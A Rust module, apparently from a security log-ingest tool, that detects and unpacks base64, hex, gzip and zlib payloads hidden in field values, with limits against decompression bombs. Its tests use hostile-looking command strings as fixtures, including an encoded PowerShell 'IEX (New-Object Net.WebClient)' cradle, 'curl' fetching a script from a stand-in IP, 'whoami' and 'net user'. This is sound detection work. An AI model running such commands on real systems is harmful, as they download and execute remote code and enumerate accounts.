//! Payloads: what a field's value carries packed, such as a command in base64 or a gzip in hexadecimal digits, unpacked
//! as far as it means something; bounded, so that nothing unpacks to more than is worth a look.

use base64::Engine;
use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use std::io::Read;

/// Layers one in another.
const DEPTH: usize = 4;
/// Packed words looked at in one value.
const WORDS: usize = 8;
/// Shortest word that is taken as packed: shorter ones look packed by chance.
const SHORTEST: usize = 16;
/// Most bytes of a value that are looked at, and most that a gzip may unpack to.
const LONGEST: usize = 1 << 20;
pub const UNPACKED: usize = 256 << 10;

const LENIENT: GeneralPurposeConfig = GeneralPurposeConfig::new()
    .with_decode_padding_mode(DecodePaddingMode::Indifferent)
    .with_decode_allow_trailing_bits(true);
const STANDARD: GeneralPurpose = GeneralPurpose::new(&alphabet::STANDARD, LENIENT);
const URL_SAFE: GeneralPurpose = GeneralPurpose::new(&alphabet::URL_SAFE, LENIENT);

/// How something was packed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Packing {
    Base64,
    Hex,
    Gzip,
    Zlib,
}

impl Packing {
    pub fn word(self) -> &'static str {
        match self {
            Self::Base64 => "base64",
            Self::Hex => "hexadecimal",
            Self::Gzip => "gzip",
            Self::Zlib => "zlib",
        }
    }
}

/// What a value carries.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Payload {
    /// How it was packed, the outermost first.
    pub packed: Vec<Packing>,
    pub inside: Inside,
}

/// What was found when nothing was left to unpack.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Inside {
    Text(String),
    /// Text that was written in UTF-16, as PowerShell does.
    Utf16(String),
    Bytes(Vec<u8>),
    /// It unpacks to more than [`UNPACKED`] bytes, and was not.
    TooBig,
}

/// What the words of a value carry; nothing where none is packed.
///
/// ```
/// use watchkeep_ingest::payload::{Inside, payloads};
/// let found = payloads("powershell -enc dwBoAG8AYQBtAGkA");
/// assert_eq!(found.first().map(|one| &one.inside), Some(&Inside::Utf16("whoami".to_owned())));
/// ```
pub fn payloads(value: &str) -> Vec<Payload> {
    let end = (0..=value.len().min(LONGEST)).rev().find(|end| value.is_char_boundary(*end)).unwrap_or_default();
    let value = value.get(..end).unwrap_or_default().trim();
    if let Some(whole) = word(value) {
        return vec![whole];
    }
    let apart = |sign: char| sign.is_whitespace() || "\"'`,;()[]{}<>|&".contains(sign);
    let words = value.split(apart).filter(|word| word.len() >= SHORTEST).take(WORDS * 8);
    // `name=value` and `name:value` too; a `=` at the end is base64's own.
    let values = words.flat_map(|word| {
        let body = word.trim_end_matches('=');
        let after = body.rfind(['=', ':']).and_then(|at| word.get(at + 1..));
        [Some(word), after]
    });
    let mut found: Vec<Payload> = Vec::new();
    for one in values.flatten().filter_map(word).take(WORDS) {
        if !found.contains(&one) {
            found.push(one);
        }
    }
    found
}

fn word(word: &str) -> Option<Payload> {
    let mut packed = Vec::new();
    let inside = unpack_text(word, &mut packed)?;
    Some(Payload { packed, inside })
}

/// What a packed word holds; `None` where it is none, or means nothing unpacked.
fn unpack_text(text: &str, packed: &mut Vec<Packing>) -> Option<Inside> {
    let text = text.trim();
    if text.len() < SHORTEST || packed.len() >= DEPTH {
        return None;
    }
    let ways = [(Packing::Hex, hex(text)), (Packing::Base64, base64(text))];
    for (way, bytes) in ways {
        let Some(bytes) = bytes.filter(|bytes| !bytes.is_empty()) else { continue };
        let before = packed.len();
        packed.push(way);
        if let Some(inside) = unpack_bytes(bytes, packed) {
            return Some(inside);
        }
        packed.truncate(before);
    }
    None
}

fn unpack_bytes(bytes: Vec<u8>, packed: &mut Vec<Packing>) -> Option<Inside> {
    let way = match bytes.as_slice() {
        [0x1f, 0x8b, 8, ..] => Some(Packing::Gzip),
        [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..] => Some(Packing::Zlib),
        _ => None,
    };
    if let Some(way) = way.filter(|_| packed.len() < DEPTH)
        && let Some(inflated) = inflate(way, &bytes)
    {
        packed.push(way);
        return match inflated {
            Some(plain) => Some(unpack_bytes(plain.clone(), packed).unwrap_or(Inside::Bytes(plain))),
            None => Some(Inside::TooBig),
        };
    }
    if let Some(text) = utf16(&bytes) {
        return Some(unpack_text(&text, packed).unwrap_or(Inside::Utf16(text)));
    }
    match String::from_utf8(bytes) {
        Ok(text) if is_words(&text) => Some(unpack_text(&text, packed).unwrap_or(Inside::Text(text))),
        Ok(text) => known(text.into_bytes()),
        Err(other) => known(other.into_bytes()),
    }
}

/// Bytes that begin as files of a known kind do; others are most likely no payload at all.
fn known(bytes: Vec<u8>) -> Option<Inside> {
    const BEGINNINGS: &[&[u8]] =
        &[b"MZ", b"PK\x03\x04", b"\x7fELF", b"%PDF", b"\xd0\xcf\x11\xe0", b"\x89PNG", b"Rar!", b"7z\xbc\xaf"];
    let begins =
        |start: &&[u8]| bytes.len() >= 8 && bytes.starts_with(start) && !(start.len() == 2 && bytes.len() < 64);
    BEGINNINGS.iter().any(begins).then_some(Inside::Bytes(bytes))
}

/// `None` where it is damaged from the start, `Some(None)` where it is too big.
fn inflate(way: Packing, bytes: &[u8]) -> Option<Option<Vec<u8>>> {
    let mut plain = Vec::new();
    let limit = UNPACKED as u64 + 1;
    let read = match way {
        Packing::Zlib => flate2::read::ZlibDecoder::new(bytes).take(limit).read_to_end(&mut plain),
        _ => flate2::read::MultiGzDecoder::new(bytes).take(limit).read_to_end(&mut plain),
    };
    match read {
        _ if plain.len() > UNPACKED => Some(None),
        Ok(_) => Some(Some(plain)),
        // Cut off, as long values are: what came out is shown.
        Err(_) => (!plain.is_empty()).then_some(Some(plain)),
    }
}

fn base64(text: &str) -> Option<Vec<u8>> {
    let fits = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'-' | b'_' | b'=');
    if !text.bytes().all(fits) || text.trim_end_matches('=').len() % 4 == 1 {
        return None;
    }
    STANDARD.decode(text).or_else(|_| URL_SAFE.decode(text)).ok()
}

fn hex(text: &str) -> Option<Vec<u8>> {
    let digits = text.strip_prefix("0x").or_else(|| text.strip_prefix("0X")).unwrap_or(text).as_bytes();
    if digits.len() < SHORTEST || !digits.len().is_multiple_of(2) || !digits.iter().all(u8::is_ascii_hexdigit) {
        return None;
    }
    let nibble = |digit: &u8| char::from(*digit).to_digit(16).unwrap_or_default() as u8;
    Some(digits.chunks(2).map(|pair| pair.iter().fold(0, |sum, digit| sum << 4 | nibble(digit))).collect())
}

/// Text in UTF-16, little end first, of which most signs have no high byte.
fn utf16(bytes: &[u8]) -> Option<String> {
    let bytes = bytes.strip_prefix(&[0xff, 0xfe]).unwrap_or(bytes);
    if bytes.len() < 8 || !bytes.len().is_multiple_of(2) {
        return None;
    }
    let units: Vec<u16> =
        bytes.chunks(2).map(|pair| pair.iter().rev().fold(0, |sum, byte| sum << 8 | u16::from(*byte))).collect();
    let plain = units.iter().filter(|unit| **unit < 0x100).count();
    let text = String::from_utf16(&units).ok().filter(|_| plain * 10 >= units.len() * 8)?;
    is_words(&text).then_some(text)
}

/// Whether a person could read it: at least four signs, and no control signs but those of lines.
fn is_words(text: &str) -> bool {
    let odd = |sign: char| sign.is_control() && !matches!(sign, '\n' | '\r' | '\t') || sign == '\u{fffd}';
    text.chars().count() >= 4 && !text.chars().any(odd)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;

    fn gz(bytes: &[u8]) -> Vec<u8> {
        let mut packed = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        packed.write_all(bytes).expect("packed");
        packed.finish().expect("packed")
    }

    fn wide(text: &str) -> Vec<u8> {
        text.encode_utf16().flat_map(u16::to_le_bytes).collect()
    }

    fn check(value: &str, expected: &[(&str, &str)]) {
        let got: Vec<(String, String)> = payloads(value)
            .iter()
            .map(|one| {
                let ways: Vec<&str> = one.packed.iter().map(|way| way.word()).collect();
                let inside = match &one.inside {
                    Inside::Text(text) => text.clone(),
                    Inside::Utf16(text) => format!("wide {text}"),
                    Inside::Bytes(bytes) => format!("{} bytes", bytes.len()),
                    Inside::TooBig => "too big".to_owned(),
                };
                (ways.join(" "), inside)
            })
            .collect();
        let got: Vec<(&str, &str)> = got.iter().map(|(ways, inside)| (&**ways, &**inside)).collect();
        assert_eq!(got, expected, "{value:.200}");
    }

    #[test]
    fn what_is_packed_is_unpacked_layer_by_layer() {
        let command = STANDARD.encode(wide("IEX (New-Object Net.WebClient)"));
        check(&format!("powershell.exe -nop -enc {command}"), &[("base64", "wide IEX (New-Object Net.WebClient)")]);
        check(&format!("-EncodedCommand:\"{command}\""), &[("base64", "wide IEX (New-Object Net.WebClient)")]);
        let inner = STANDARD.encode("curl http://203.0.113.9/a.sh");
        check(&STANDARD.encode(wide(&inner)), &[("base64 base64", "curl http://203.0.113.9/a.sh")]);
        check(&STANDARD.encode(gz(b"whoami /all\n")), &[("base64 gzip", "whoami /all\n")]);
        let hex: String = gz(&wide("net user x")).iter().map(|byte| format!("{byte:02x}")).collect();
        check(&hex, &[("hexadecimal gzip", "wide net user x")]);
        check(&format!("0x{}", "636d64202f632064697220433a5c"), &[("hexadecimal", "cmd /c dir C:\\")]);
        check(
            &format!("a={inner}&b={}", URL_SAFE.encode("second=value?>>")),
            &[("base64", "curl http://203.0.113.9/a.sh"), ("base64", "second=value?>>")],
        );
        check(&STANDARD.encode([b"MZ\x90\0".as_slice(), &[0xcc; 80]].concat()), &[("base64", "84 bytes")]);
    }

    #[test]
    fn what_only_looks_packed_is_left_alone() {
        for value in [
            "",
            "administrators12",
            "C:\\Windows\\System32\\svchost.exe",
            "d41d8cd98f00b204e9800998ecf8427e",
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
            "0197c56dd90079a8e450334fc18ba4e3",
            "Microsoft-Windows-Sysmon/Operational",
            "{1ac14e77-02e7-4e5d-b744-2eb1ae5198b7}",
            "AKIAIOSFODNN7EXAMPLE",
        ] {
            check(value, &[]);
        }
    }

    #[test]
    fn bombs_are_refused_and_depth_is_bounded() {
        check(&STANDARD.encode(gz(&vec![b'a'; UNPACKED + 1])), &[("base64 gzip", "too big")]);
        check(&STANDARD.encode(gz(&gz(&vec![0; 8 << 20]))), &[("base64 gzip gzip", "too big")]);
        let mut text = "the innermost of all of these words".to_owned();
        (0..8).for_each(|_| text = STANDARD.encode(&text));
        let found = payloads(&text);
        assert_eq!(found.first().map(|one| one.packed.len()), Some(DEPTH), "{found:?}");
    }
}
